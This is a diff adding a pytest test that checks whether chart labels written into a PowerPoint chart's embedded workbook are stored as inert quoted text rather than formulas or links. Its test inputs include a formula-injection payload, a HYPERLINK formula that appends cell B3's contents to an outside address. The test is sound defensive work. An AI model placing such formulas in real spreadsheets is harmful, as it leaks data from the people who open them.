@@ -4,11 +4,15 @@ import io
 from datetime import date
 
 import pytest
+from openpyxl import load_workbook
 from pptx import Presentation
 from pptx.enum.chart import XL_CHART_TYPE
 from pptx.presentation import Presentation as Slides
 
+from callboard.services.taking.slide_charts import add_dots
+from callboard.services.taking.slide_parts import Box
 from callboard.services.taking.slides_file import LONGEST_TITLE, write_slides
+from callboard.views import ReportDot, ReportDots
 from tests.sample_reports import DAYS, VALUES, report
 
 
@@ -84,3 +88,17 @@ def test_nothing_is_longer_than_its_place(slides: Slides) -> None:
             assert shape.top + shape.height <= slides.slide_height
     table = next(s.table for s in slides.slides[1].shapes if s.has_table)
     assert max(len(cell.text_frame.text) for cell in table.iter_cells()) <= 120
+
+
+@pytest.mark.parametrize("label", ['=HYPERLINK("//e.co/"&B3,"Acme")', "http://e.co/?a", "@SUM(1)"])
+def test_the_workbook_behind_a_chart_computes_nothing_and_links_nowhere(label: str) -> None:
+    deck = Presentation()
+    slide = deck.slides.add_slide(deck.slide_layouts[6])
+    dots = tuple(ReportDot(label=each, value=1.0, value_text="1") for each in (label, "We"))
+    view = ReportDots(title="x", dots=dots, unit_text=label, decimals=1, alt="x")
+    add_dots(slide, view, Box(left=1, top=1, width=5, height=3))
+    (chart,) = (shape.chart for shape in slide.shapes if shape.has_chart)
+    book = load_workbook(io.BytesIO(chart.part.chart_workbook.xlsx_part.blob))
+    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
+    assert f"'{label}" in [cell.value for cell in cells]
+    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
